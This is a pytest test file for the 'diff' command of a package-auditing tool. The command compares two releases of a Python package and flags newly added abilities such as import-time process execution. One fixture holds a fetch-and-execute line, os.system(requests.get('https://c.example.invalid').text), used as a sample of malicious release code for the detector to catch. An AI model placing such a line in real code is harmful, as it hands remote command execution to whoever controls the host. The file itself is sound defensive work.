"""The command that compares two releases."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pratique.cli import main
from pratique.cli.diff import representative
from pratique.ports import IndexFile
from tests.support.distributions import Built, make_sdist, make_wheel
from tests.support.upstream_server import LocalIndex

_OLD = {"demo/__init__.py": "import requests\ndef get(u):\n    return requests.get(u)\n"}
_NEW = {"demo/__init__.py": "import os, requests\nos.system(requests.get('https://c.example.invalid').text)\n"}


def _write(folder: Path, *built: Built) -> list[str]:
    for one in built:
        (folder / one.filename).write_bytes(one.data)
    return [str(folder / one.filename) for one in built]


def test_a_new_ability_is_shown_with_its_code(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The person sees what is new, when it runs, where it stands, and the line itself; the status says so too."""
    old, new = make_wheel("demo", "1.0", _OLD), make_wheel("demo", "1.1", _NEW, ["requests"])
    assert main(["diff", *_write(tmp_path, old, new)]) == 1
    out = capsys.readouterr().out
    assert "starts a program when it is imported" in out
    assert "demo/__init__.py:2" in out
    assert "os.system(requests.get(" in out
    assert "+ requests" in out
    assert "1 file changed" in out


def test_nothing_new_is_status_0(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A release that only changes what it could do before is no reason to fail a job."""
    old, new = make_wheel("demo", "1.0", _OLD), make_wheel("demo", "1.1", {**_OLD, "demo/b.py": "x = 1\n"})
    assert main(["diff", *_write(tmp_path, old, new)]) == 0
    assert "0 new chains" in capsys.readouterr().out


def test_a_file_compared_with_itself_has_no_changes(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Both sides may be the very same path."""
    (path,) = _write(tmp_path, make_wheel("demo", "1.0", _NEW))
    assert main(["diff", path, path, "--format", "json"]) == 0
    (pair,) = json.loads(capsys.readouterr().out)
    assert pair["added"] == pair["removed"] == []


def test_a_wheel_that_can_do_what_its_sdist_cannot_fails(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Two forms of one release: the wheel was not built from that source."""
    source = make_sdist("demo", "1.1", {f"src/{path}": text for path, text in _OLD.items()}, ["requests"])
    assert main(["diff", *_write(tmp_path, source, make_wheel("demo", "1.1", _NEW, ["requests"]))]) == 1
    assert "demo-1.1.tar.gz and demo-1.1-py3-none-any.whl" in capsys.readouterr().out
    same = make_wheel("demo", "1.1", _OLD, ["requests"])
    assert main(["diff", *_write(tmp_path, source, same), "--format", "json"]) == 0
    (pair,) = json.loads(capsys.readouterr().out)
    assert not [one for one in pair["added"] if one["kind"] == "file"]


def test_what_a_sdist_runs_to_be_built_is_no_news_about_its_wheel(tmp_path: Path) -> None:
    """A hook belongs to the sdist by nature: only what the wheel has alone is held against it."""
    source = make_sdist("demo", "1.1", {**_OLD, "setup.py": "import os\nos.system('make')\n"})
    assert main(["diff", *_write(tmp_path, make_wheel("demo", "1.1", _OLD), source)]) == 0


def test_json_says_all(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A tool gets every field of both sides, what is new and how new, and what is gone."""
    old, new = make_wheel("demo", "1.0", _OLD, ["six"]), make_wheel("demo", "1.1", _NEW)
    assert main(["diff", *_write(tmp_path, old, new), "--format", "json"]) == 1
    (pair,) = json.loads(capsys.readouterr().out)
    assert pair["new"]["sha256"] == new.sha256
    (process,) = [one for one in pair["added"] if one["kind"] == "process"]
    assert (process["novelty"], process["chain"], process["phase"]) == ("ability", True, "import")
    assert [one["what"] for one in pair["removed"] if one["kind"] == "dependency"] == ["six"]


def test_what_cannot_be_read_is_status_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Nothing is said of a file that is no archive, and never that it is fine."""
    (good,) = _write(tmp_path, make_wheel("demo", "1.0", _OLD))
    bad = tmp_path / "demo-1.1-py3-none-any.whl"
    bad.write_bytes(b"no archive")
    assert main(["diff", good, str(bad)]) == 2
    assert "not read" in capsys.readouterr().out


def test_two_files_of_source_are_compared(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A script and its next version are no archives, and have abilities all the same."""
    old, new = tmp_path / "a.py", tmp_path / "b.py"
    old.write_text("x = 1\n", encoding="utf-8")
    new.write_text(_NEW["demo/__init__.py"], encoding="utf-8")
    assert main(["diff", str(old), str(new)]) == 1
    assert "starts a program" in capsys.readouterr().out


def test_a_folder_of_many_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Which of them is meant, only the person knows."""
    one, _ = _write(tmp_path, make_wheel("demo", "1.0", _OLD), make_wheel("demo", "1.1", _OLD))
    assert main(["diff", str(tmp_path), one]) == 2
    assert "Name the one" in capsys.readouterr().err


def test_pinned_releases_are_fetched(capsys: pytest.CaptureFixture[str]) -> None:
    """Wheel is compared with wheel and sdist with sdist."""
    index = LocalIndex()
    for built in (
        make_wheel("demo", "1.0", _OLD),
        make_sdist("demo", "1.0", _OLD),
        make_wheel("demo", "1.1", _NEW),
        make_sdist("demo", "1.1", _OLD),
    ):
        index.add(built)
    with index.serving_in_thread() as url:
        assert main(["diff", "demo==1.0", "demo==1.1", "--format", "json", "--upstream", url]) == 1
    pairs = json.loads(capsys.readouterr().out)
    names = [(pair["old"]["target"], pair["new"]["target"]) for pair in pairs]
    assert names == [
        ("demo-1.0-py3-none-any.whl", "demo-1.1-py3-none-any.whl"),
        ("demo-1.0.tar.gz", "demo-1.1.tar.gz"),
    ]


def test_of_many_wheels_the_usual_one_is_taken() -> None:
    """One that runs anywhere, else one for the most common machines; the others say the same."""

    def chosen(*names: str) -> list[str]:
        return [f.filename for f in representative([IndexFile(filename=n, url=n) for n in names])]

    mac, linux, anywhere = (
        "d-1-cp312-cp312-macosx_11_0_arm64.whl",
        "d-1-cp312-cp312-manylinux_2_17_x86_64.whl",
        "d-1-py3-none-any.whl",
    )
    assert chosen(mac, linux, "d-1.tar.gz") == [linux, "d-1.tar.gz"]
    assert chosen(mac, linux, anywhere) == [anywhere]
    assert chosen("d-1.win32.exe") == []
